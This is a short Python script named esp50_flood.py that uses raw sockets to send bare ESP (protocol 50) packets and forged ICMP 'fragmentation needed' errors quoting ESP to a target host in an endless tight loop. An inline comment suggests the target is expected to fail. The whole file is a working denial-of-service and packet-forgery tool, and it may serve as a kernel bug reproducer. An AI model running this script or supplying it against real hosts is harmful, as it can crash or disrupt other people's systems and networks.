# SPDX-License-Identifier: GPL-2.0-or-later
"""esp50_flood.py FROM TO: protocol 50 and ICMP errors that quote it, to TO, until it is ended."""

import socket
import sys
import time

SPI = b"\x00\x00\x99\x99"


def checksum(data):
    total = sum(int.from_bytes(data[i:i + 2], "big") for i in range(0, len(data), 2))
    total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF & ~(total + (total >> 16))


def too_big(sender, receiver):
    """"Fragmentation needed" about an ESP packet from @sender to @receiver."""
    ip = bytes([0x45, 0, 0, 84, 0, 1, 0, 0, 64, 50, 0, 0]) + sender + receiver
    rest = bytes([0, 0, 5, 0]) + ip + SPI + bytes(4)
    return b"\x03\x04" + checksum(b"\x03\x04\x00\x00" + rest).to_bytes(2, "big") + rest


def main(ours, theirs):
    error = too_big(socket.inet_aton(theirs), socket.inet_aton(ours))
    packets = [(socket.socket(socket.AF_INET, socket.SOCK_RAW, 50), SPI + bytes(60)),
               (socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), error)]
    while True:
        for sock, data in packets:
            try:
                sock.sendto(data, (theirs, 0))
            except OSError:
                pass  # the other end is going
        time.sleep(0.0005)


main(*sys.argv[1:])
